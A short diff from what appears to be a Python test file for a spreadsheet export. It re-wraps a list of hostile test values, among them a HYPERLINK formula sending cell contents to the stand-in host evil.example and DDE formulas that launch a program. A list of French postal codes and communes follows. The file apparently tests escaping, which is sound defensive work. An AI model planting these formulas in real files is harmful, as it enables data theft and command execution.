@@ -6,8 +6,8 @@ import datetime as dt
 import io
 
 # Hostile values, each one something a spreadsheet would execute or interpret if written as it is.
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+33 1 23 45 67 89", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+33 1 23 45 67 89", "-2+3",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
 
 # (postal code, commune understood): postal codes that one commune has, in the BUD and outside it.
 POSTAL = [("62800", "Liévin"), ("59000", "Lille"), ("62210", "Avion"), ("59450", "Sin-le-Noble"),
